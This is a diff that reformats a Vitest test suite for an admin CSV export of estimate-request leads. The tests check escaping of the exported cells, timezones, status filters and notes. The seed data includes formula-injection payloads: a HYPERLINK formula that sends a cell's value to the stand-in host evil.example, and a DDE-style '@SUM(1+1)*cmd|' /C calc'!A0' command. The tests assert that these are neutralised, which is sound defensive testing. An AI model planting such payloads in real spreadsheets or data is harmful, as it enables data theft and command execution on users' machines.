@@ -6,7 +6,13 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { databaseTargets } from "#tests/support/databases.ts";
-import { expectServerHealthy, seedLead, setUpAdminSite, tearDownAdminSite, type AdminSite } from "#tests/support/admin-site.ts";
+import {
+  expectServerHealthy,
+  seedLead,
+  setUpAdminSite,
+  tearDownAdminSite,
+  type AdminSite,
+} from "#tests/support/admin-site.ts";
 import { createLeadWithJobs, updateLeadStatus, type Lead } from "#app/server/repos/leads.server.ts";
 import type { HttpResult } from "#tests/support/server.ts";
 import { createLeadNote } from "#app/server/repos/lead-notes.server.ts";
@@ -105,12 +111,26 @@ describe.each(targets)("CSV export on $name", (target) => {
           subject: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
           email: "plus@home.test",
           // The optional details and the attribution are the visitor's text too.
-          details: { zip: "77008", inServiceArea: true, streetAddress: "=SUM(A1:A9)", contactMethod: "call", bestTime: "-mornings", landingPage: "/", referrer: "@ref", utmSource: "+src", utmMedium: "cpc", utmCampaign: "=camp" },
+          details: {
+            zip: "77008",
+            inServiceArea: true,
+            streetAddress: "=SUM(A1:A9)",
+            contactMethod: "call",
+            bestTime: "-mornings",
+            landingPage: "/",
+            referrer: "@ref",
+            utmSource: "+src",
+            utmMedium: "cpc",
+            utmCampaign: "=camp",
+          },
         },
       ],
       ["minus", { fromName: "-Minus Person", subject: "-2+3", email: "minus@home.test", phone: "+1 713 555 0147" }],
       ["at", { fromName: "@At Person", subject: "@SUM(1+1)*cmd|' /C calc'!A0", email: "at@home.test" }],
-      ["tabcr", { fromName: "Tab Person", subject: "\t=1+1", message: "\r=2+2 first line\nsecond", email: "tab@home.test" }],
+      [
+        "tabcr",
+        { fromName: "Tab Person", subject: "\t=1+1", message: "\r=2+2 first line\nsecond", email: "tab@home.test" },
+      ],
       [
         "punctuation",
         {
@@ -120,12 +140,20 @@ describe.each(targets)("CSV export on $name", (target) => {
           email: "bob@home.test",
         },
       ],
-      ["accents", { fromName: "José Muñoz", subject: "Baño — ducha nueva", message: "Crème brûlée 🙂", email: "jose@casa.test" }],
+      [
+        "accents",
+        { fromName: "José Muñoz", subject: "Baño — ducha nueva", message: "Crème brûlée 🙂", email: "jose@casa.test" },
+      ],
     ];
     let minute = 0;
-    for (const [key, fields] of leads) seeded[key] = (await seedLead(site, fields, { now: at((minute += 1)), jobs: [] })).lead;
+    for (const [key, fields] of leads)
+      seeded[key] = (await seedLead(site, fields, { now: at((minute += 1)), jobs: [] })).lead;
     seeded.spam = (
-      await seedLead(site, { isSpam: true, spamReason: "honeypot field filled", subject: "Cheap pills" }, { now: at((minute += 1)) })
+      await seedLead(
+        site,
+        { isSpam: true, spamReason: "honeypot field filled", subject: "Cheap pills" },
+        { now: at((minute += 1)) },
+      )
     ).lead;
     await site.db((database) => updateLeadStatus({ db: database.db, id: seeded.minus!.id, status: "won" }));
   });
@@ -136,7 +164,9 @@ describe.each(targets)("CSV export on $name", (target) => {
     const res = await site.get("/admin/leads.csv");
     expect(res.status).toBe(200);
     expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
-    expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="estimate-requests-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(res.headers["content-disposition"]).toMatch(
+      /^attachment; filename="estimate-requests-\d{4}-\d{2}-\d{2}\.csv"$/,
+    );
     expect(res.headers["cache-control"]).toMatch(/no-store/);
     const rows = csvRows(res);
     expect(rows[0]).toEqual(HEADER);
@@ -170,8 +200,20 @@ describe.each(targets)("CSV export on $name", (target) => {
       "0",
       "",
     ]);
-    expect(byId.get(seeded.minus!.id)?.slice(2, 8)).toEqual(["'-Minus Person", "minus@home.test", "'+1 713 555 0147", "'-2+3", "Please call after 5 pm.", "won"]);
-    expect(byId.get(seeded.at!.id)?.slice(2, 6)).toEqual(["'@At Person", "at@home.test", "(713) 555-0100", "'@SUM(1+1)*cmd|' /C calc'!A0"]);
+    expect(byId.get(seeded.minus!.id)?.slice(2, 8)).toEqual([
+      "'-Minus Person",
+      "minus@home.test",
+      "'+1 713 555 0147",
+      "'-2+3",
+      "Please call after 5 pm.",
+      "won",
+    ]);
+    expect(byId.get(seeded.at!.id)?.slice(2, 6)).toEqual([
+      "'@At Person",
+      "at@home.test",
+      "(713) 555-0100",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+    ]);
     expect(byId.get(seeded.tabcr!.id)?.slice(5, 7)).toEqual(["'\t=1+1", "'\r=2+2 first line\nsecond"]);
 
     // The raw bytes, for the two cells the issue names: quoted, quotes doubled, ' first.
@@ -210,7 +252,20 @@ describe.each(targets)("CSV export on $name", (target) => {
     );
     const spam = csvRows(await site.get("/admin/leads.csv?status=spam")).slice(1);
     expect(spam).toEqual([
-      [seeded.spam!.id, local(seeded.spam!.created_at), ...spam[0]!.slice(2, 5), "Cheap pills", "Please call after 5 pm.", "spam", "honeypot field filled", "/contact", ...NO_DETAILS, "", "0", ""],
+      [
+        seeded.spam!.id,
+        local(seeded.spam!.created_at),
+        ...spam[0]!.slice(2, 5),
+        "Cheap pills",
+        "Please call after 5 pm.",
+        "spam",
+        "honeypot field filled",
+        "/contact",
+        ...NO_DETAILS,
+        "",
+        "0",
+        "",
+      ],
     ]);
     const won = csvRows(await site.get("/admin/leads.csv?status=won")).slice(1);
     expect(won.map((row) => row[0])).toEqual([seeded.minus!.id]);
@@ -221,8 +276,12 @@ describe.each(targets)("CSV export on $name", (target) => {
   });
 
   test("times are Houston's with the offset: a 9:47 PM request is that day, winter and summer", async () => {
-    const winter = (await seedLead(site, { subject: "Late winter request" }, { now: new Date("2026-11-25T03:47:00.000Z"), jobs: [] })).lead;
-    const summer = (await seedLead(site, { subject: "Late summer request" }, { now: new Date("2026-07-15T02:47:00.000Z"), jobs: [] })).lead;
+    const winter = (
+      await seedLead(site, { subject: "Late winter request" }, { now: new Date("2026-11-25T03:47:00.000Z"), jobs: [] })
+    ).lead;
+    const summer = (
+      await seedLead(site, { subject: "Late summer request" }, { now: new Date("2026-07-15T02:47:00.000Z"), jobs: [] })
+    ).lead;
     const rows = csvRows(await site.get("/admin/leads.csv?q=late")).slice(1);
     expect(rows.map((row) => row.slice(0, 2))).toEqual([
       [winter.id, "2026-11-24T21:47:00-06:00"],
@@ -234,8 +293,22 @@ describe.each(targets)("CSV export on $name", (target) => {
     const lead = (await seedLead(site, { subject: "Roof leak with notes" }, { now: at(30), jobs: [] })).lead;
     await site.db(async (database) => {
       const dialect = database.dialect;
-      await createLeadNote({ db: database.db, dialect, leadId: lead.id, authorId: site.admin.user.id, body: "Called back, visit Friday", now: new Date("2026-11-21T03:05:00.000Z") });
-      await createLeadNote({ db: database.db, dialect, leadId: lead.id, authorId: null, body: "=1+1, \"quoted\"\nsecond line", now: new Date("2026-11-21T15:00:00.000Z") });
+      await createLeadNote({
+        db: database.db,
+        dialect,
+        leadId: lead.id,
+        authorId: site.admin.user.id,
+        body: "Called back, visit Friday",
+        now: new Date("2026-11-21T03:05:00.000Z"),
+      });
+      await createLeadNote({
+        db: database.db,
+        dialect,
+        leadId: lead.id,
+        authorId: null,
+        body: '=1+1, "quoted"\nsecond line',
+        now: new Date("2026-11-21T15:00:00.000Z"),
+      });
       for (const position of [0, 1, 2]) {
         await database.db
           .insertInto("lead_photos")
@@ -277,7 +350,19 @@ describe.each(targets)("CSV export on $name", (target) => {
           db: database.db,
           mode: "insert",
           jobs: [],
-          visit: { id, lead_id: leadId, starts_at: startsAt, minutes: 120, status, sequence: 0, uid: `${id}@remodel.test`, note: null, reminder_job_id: null, created_at: stamp, updated_at: stamp },
+          visit: {
+            id,
+            lead_id: leadId,
+            starts_at: startsAt,
+            minutes: 120,
+            status,
+            sequence: 0,
+            uid: `${id}@remodel.test`,
+            note: null,
+            reminder_job_id: null,
+            created_at: stamp,
+            updated_at: stamp,
+          },
         });
       });
     const winter = (await seedLead(site, { subject: "Visit column winter" }, { now: at(40), jobs: [] })).lead;
@@ -304,7 +389,9 @@ describe.each(targets)("CSV export on $name", (target) => {
     const res = await site.get("/admin/leads.csv?status=bogus");
     expect(res.status).toBe(400);
     expect(res.headers["content-type"]).toMatch(/^text\/plain/);
-    expect(res.text).toContain("“bogus” is not a status, so nothing was exported. Use one of: open, new, review, contacted, scheduled, won, lost, spam, all.");
+    expect(res.text).toContain(
+      "“bogus” is not a status, so nothing was exported. Use one of: open, new, review, contacted, scheduled, won, lost, spam, all.",
+    );
   });
 
   test("POST is refused with 405", async () => {
